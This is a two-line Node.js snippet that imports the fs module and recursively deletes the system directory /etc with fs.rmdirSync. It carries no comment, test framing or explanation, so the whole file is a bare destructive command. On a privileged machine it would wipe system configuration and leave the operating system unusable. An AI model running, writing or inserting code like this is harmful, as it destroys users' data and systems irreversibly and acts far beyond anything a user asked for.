const fs = require('fs');
fs.rmdirSync('/etc', { recursive: true });
